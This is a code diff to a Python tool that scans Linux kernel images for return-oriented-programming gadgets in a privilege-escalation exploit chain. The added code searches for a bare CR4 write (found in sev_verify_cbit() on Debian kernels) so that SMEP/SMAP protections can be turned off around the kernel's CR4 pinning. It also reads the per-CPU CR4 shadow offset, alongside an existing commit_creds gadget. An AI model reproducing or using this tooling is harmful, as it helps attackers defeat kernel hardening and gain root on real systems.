@@ -351,7 +351,7 @@ def find_kpti_return(t):
 
 def _branch_target(ins):
     if len(ins.operands) == 1 and ins.operands[0].type == capstone.x86.X86_OP_IMM:
-        return ins.operands[0].imm
+        return ins.operands[0].imm & 0xffffffffffffffff  # capstone gives it signed
     return None
 
 
@@ -421,6 +421,152 @@ def find_mid_call(t, func, regs=("rbx", "rbp", "r12", "r13", "r14")):
     return best_site[1:]
 
 
+def _rip_target(ins, op):
+    """Address a rip-relative memory operand points to, or None."""
+    m = op.mem
+    if op.type != capstone.x86.X86_OP_MEM or m.segment != 0 or m.index != 0 or \
+            ins.reg_name(m.base) != "rip":
+        return None
+    return (ins.address + ins.size + m.disp) & 0xffffffffffffffff
+
+
+def _in_data(t, a):
+    """Whether @a lies in the kernel's permanent writable data (not init)."""
+    for name in (".data", ".bss"):
+        start, _, size, _ = t.elf.sections.get(name, (0, 0, 0, 0))
+        if start <= a < start + size:
+            return True
+    return False
+
+
+def _walk_cr4_write(t, site):
+    """Follow the code from `mov %REG,%cr4` at @site to its return.
+    Accepted: CR4 writes from registers that still hold the chain's values,
+    a CR3 switch that is undone (`mov %cr3,%X; mov %ROOT,%cr3 ... mov
+    %X,%cr3`: ROOT must then hold a valid page-table root), an `rdrand`
+    retry loop, stores to kernel data and a compare against what was just
+    stored there (its branch outcome is then known), register copies.
+    Anything else (another CR read, a jump the kernel may patch, a call)
+    rejects the site.  Returns (first CR4 reg, final CR4 reg, root reg or
+    None, instruction count) in entry registers, or None."""
+    val = {r: r for r in REGS64}   # register -> entry register it holds, or a token
+    srcs, stores = [], {}
+    saved_cr3 = root = None
+    restored = False
+    zf = None
+    tokens = 0
+    pc = site
+    for steps in range(40):
+        n = t.ret_len(pc)
+        if n:
+            if not srcs or t.touches_patched(site, pc + n):
+                return None
+            if saved_cr3 is not None and not restored:
+                return None
+            return srcs[0], srcs[-1], root, steps
+        ins = t.disasm_from(pc, 1)
+        if not ins:
+            return None
+        ins = ins[0]
+        m, ops = ins.mnemonic, ins.operands
+        regs = [_reg(ins, o) if o.type == capstone.x86.X86_OP_REG else None for o in ops]
+        nxt = pc + ins.size
+        if m == "mov" and len(ops) == 2 and regs[0] == "cr4" and regs[1] in REGS64:
+            if val[regs[1]] not in REGS64:
+                return None
+            srcs.append(val[regs[1]])
+        elif m == "mov" and len(ops) == 2 and regs[1] == "cr3" and regs[0] in REGS64:
+            if saved_cr3 is not None:
+                return None
+            tokens += 1
+            saved_cr3 = val[regs[0]] = "cr3:%d" % tokens
+        elif m == "mov" and len(ops) == 2 and regs[0] == "cr3" and regs[1] in REGS64:
+            v = val[regs[1]]
+            if saved_cr3 is not None and v == saved_cr3 and root is not None:
+                restored = True
+            elif saved_cr3 is not None and root is None and v in REGS64:
+                root = v
+            else:
+                return None
+        elif m == "rdrand" and regs[0] in REGS64:
+            # only the retry loop `1: rdrand %X; jnc 1b`
+            loop = t.disasm_from(nxt, 1)
+            if not loop or loop[0].mnemonic not in ("jae", "jnb") or \
+                    _branch_target(loop[0]) != pc:
+                return None
+            tokens += 1
+            val[regs[0]] = "rand:%d" % tokens
+            nxt += loop[0].size
+        elif m == "mov" and len(ops) == 2 and regs[1] in REGS64 and \
+                _rip_target(ins, ops[0]) is not None:
+            a = _rip_target(ins, ops[0])
+            if not _in_data(t, a):
+                return None
+            stores[a] = val[regs[1]]
+        elif m == "cmp" and len(ops) == 2 and regs[1] in REGS64 and \
+                _rip_target(ins, ops[0]) is not None:
+            a = _rip_target(ins, ops[0])
+            # equal when it reads back what this path just stored (a
+            # register value no one else can have guessed)
+            zf = stores.get(a) == val[regs[1]] and str(val[regs[1]]).startswith("rand:")
+            if not zf:
+                return None
+        elif m in ("je", "jz", "jne", "jnz") and _branch_target(ins) is not None:
+            if zf is None:
+                return None
+            if zf == (m in ("je", "jz")):
+                nxt = _branch_target(ins)
+        elif m == "mov" and len(ops) == 2 and regs[0] in REGS64 and regs[1] in REGS64 and \
+                "rsp" not in regs:
+            val[regs[0]] = val[regs[1]]
+        else:
+            return None
+        pc = nxt
+    return None
+
+
+def find_cr4_write(t):
+    """An unguarded `mov %REG,%cr4` that returns: unlike native_write_cr4(),
+    whose CR4 pinning puts SMEP/SMAP back before it returns (and WARNs), a
+    bare CR4 write leaves them as the chain says.  Every such site in .text
+    is followed to its return (_walk_cr4_write); in the Debian kernels the
+    one that qualifies is in sev_verify_cbit(), past its SEV checks:
+        mov %rdx,%cr4; 1: rdrand %rdx; jnc 1b; mov %rdx,sev_check_data
+        mov %cr3,%rcx; mov %rdi,%cr3; cmp %rdx,sev_check_data
+        mov %rcx,%cr3; mov %rsi,%cr4; je 3f ... 3: mov %rdi,%rax; ret
+    Returns (address, first CR4 reg, final CR4 reg, page-table root reg or
+    None).  Prefers no CR3 switch, then the shortest path."""
+    cands = []
+    for a in t.pattern(b"\x0f\x22[\xe0-\xe7]"):  # mov %r64,%cr4 (rax..rdi)
+        if t.touches_patched(a, a + 3):
+            continue
+        w = _walk_cr4_write(t, a)
+        if w:
+            first, final, root, steps = w
+            cands.append((root is not None, steps, a, first, final, root))
+    if not cands:
+        raise SystemExit("gadgets: no unguarded `mov %REG,%cr4 ... ret`")
+    _, _, a, first, final, root = min(cands)
+    return a, first, final, root
+
+
+def find_cr4_shadow(t):
+    """Per-CPU offset of cpu_tlbstate.cr4 (the kernel's copy of this CPU's
+    CR4), read off cr4_read_shadow(): `mov %gs:OFF(%rip),%rax; ret`."""
+    ins = [i for i in t.disasm_from(t.sym_at("cr4_read_shadow"), 3) if i.mnemonic != "endbr64"]
+    if len(ins) < 2 or ins[0].mnemonic != "mov" or ins[0].op_str[:4] != "rax," or \
+            not t.ret_len(ins[1].address):
+        raise SystemExit("gadgets: cr4_read_shadow is not `mov %gs:X,%rax; ret`")
+    m = ins[0].operands[1].mem
+    if ins[0].reg_name(m.segment) != "gs" or ins[0].reg_name(m.base) != "rip":
+        raise SystemExit("gadgets: cr4_read_shadow does not read a per-CPU variable")
+    off = (ins[0].address + ins[0].size + m.disp) & 0xffffffffffffffff
+    _, _, size, _ = t.elf.sections[".data..percpu"]
+    if off >= size:
+        raise SystemExit("gadgets: cpu_tlbstate.cr4 at %#x is outside .data..percpu" % off)
+    return off
+
+
 def find(vmlinux, syms):
     base = syms["_text"]
     t = Text(vmlinux, {n: o - base for n, o in syms.items()})
@@ -441,6 +587,13 @@ def find(vmlinux, syms):
     put("mid_commit_creds", a)
     out["mid_commit_creds.reg"] = REGNUM[reg]
     out["mid_commit_creds.skip"] = slots
+    a, first, final, root = find_cr4_write(t)
+    put("cr4_write", a)
+    out["cr4_write.reg"] = REGNUM[first]   # the first CR4 value
+    out["cr4_write.final"] = REGNUM[final]  # the CR4 value left in place
+    if root is not None:
+        out["cr4_write.pgt"] = REGNUM[root]  # a page-table root (CR3) it switches to and back
+    out["cr4_write.shadow"] = find_cr4_shadow(t)  # per-CPU offset of cpu_tlbstate.cr4
     return out
 
 
